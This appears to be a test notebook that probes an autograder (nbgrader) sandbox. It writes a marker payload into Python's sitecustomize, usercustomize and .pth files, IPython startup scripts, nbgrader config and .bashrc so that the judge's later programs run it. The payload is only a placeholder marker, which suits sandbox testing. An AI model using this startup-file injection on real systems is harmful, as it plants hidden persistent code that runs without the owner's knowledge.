# %% [markdown]
# tries: Writes code where the next program of the judge will run it: Python's, IPython's and the shell's startup files.

# %%
import os
import site
import sys
from pathlib import Path

CODE = "open('__OUTSIDE__/__NAME__-ran', 'w').write('was here')\n"
for home in {os.path.expanduser("~"), "__OUTSIDE__/home", "/root"}:
    for path in (
        Path(home, ".ipython/profile_default/startup/00.py"), Path(home, ".bashrc"), Path(home, ".jupyter/nbgrader_config.py"),
        Path(home, f".local/lib/python{sys.version_info[0]}.{sys.version_info[1]}/site-packages/usercustomize.py"),
    ):  # fmt: skip
        try:
            path.parent.mkdir(parents=True, exist_ok=True)
            path.write_text(CODE)
        except OSError:
            pass
for folder in [*site.getsitepackages(), *sys.path, "__COURSE__"]:
    try:
        Path(folder, "sitecustomize.py").write_text(CODE)
        Path(folder, "zz.pth").write_text(f"import os; {CODE}")
    except OSError:
        pass
